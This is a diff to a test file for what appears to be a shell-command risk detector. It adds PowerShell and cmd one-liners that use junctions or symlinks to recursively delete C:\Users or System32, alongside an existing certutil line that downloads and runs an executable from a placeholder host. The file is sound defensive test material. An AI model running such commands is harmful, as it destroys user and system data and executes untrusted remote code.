@@ -5,6 +5,8 @@ describe('PowerShell and cmd, where another name or file is in between', () => {
   it.each<[string, string]>([
     ['New-Item -ItemType Junction -Path link -Target C:\\Users; Remove-Item link\\Public -Recurse -Force', 'delete -r C:/Users/Public'],
     ['ni link -ItemType SymbolicLink -Value C:\\Users; ri link\\Public -r -fo', 'delete -r C:/Users/Public'],
+    ['New-Item -ItemType Junction -Path link -Target C:\\Users | Out-Null; Get-ChildItem .\\link -Force | Remove-Item -Recurse -Force', 'delete -r C:/Users'],
+    ['New-Item -Type Junction -Name link -Path out -Value C:\\Users; Remove-Item out\\link\\* -Recurse', 'delete -r C:/Users/*'],
     ['cmd /c mklink /j link C:\\Users; ri link\\Public -r -fo', 'delete -r C:/Users/Public'],
     ['cmd /c "mklink /d link C:\\Windows && rd /s /q link\\System32"', 'delete -r C:/Windows/System32'],
     ['certutil -urlcache -split -f https://x.test/b.exe b.exe; .\\b.exe', 'execute host:https://x.test/b.exe'],
@@ -15,6 +17,7 @@ describe('PowerShell and cmd, where another name or file is in between', () => {
 
   it.each([
     'New-Item -ItemType Junction -Path link -Target C:\\Users; Remove-Item other\\Public -Recurse',
+    'New-Item -ItemType Junction -Path link -Target C:\\Users; Get-ChildItem dist | Remove-Item -Recurse',
     'New-Item -ItemType File -Path link -Value C:\\Users; Remove-Item link\\Public -Recurse',
     'certutil -urlcache -f https://x.test/a.crl a.crl; ./b.exe',
     'certutil -decode cert.b64 cert.der; certutil -dump cert.der',
